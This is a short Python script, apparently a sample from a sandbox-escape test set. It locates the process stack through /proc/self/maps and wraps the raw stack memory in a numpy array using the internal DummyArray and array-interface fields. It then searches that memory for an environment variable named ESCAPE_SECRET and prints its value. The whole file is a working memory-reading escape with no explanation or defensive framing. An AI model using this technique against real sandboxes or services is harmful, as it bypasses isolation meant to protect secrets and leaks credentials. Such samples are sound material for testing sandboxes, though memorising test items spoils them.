# numpy's own carrier of an address, without an object of the program's.
# effect: env
# tree: scientific
import numpy
stack = next(line for line in open("/proc/self/maps") if "[stack]" in line).split()[0]
start, end = (int(part, 16) for part in stack.split("-"))
where = {"version": 3, "shape": (end - start,), "typestr": "|u1"}
where["data"] = (start, True)
tricks = getattr(numpy.lib, "_stride_tricks_impl", numpy.lib.stride_tricks)
memory = numpy.asarray(tricks.DummyArray(where))
print(next(word for word in memory.tobytes().split(b"\0") if word.startswith(b"ESCAPE_SECRET="))[14:].decode())
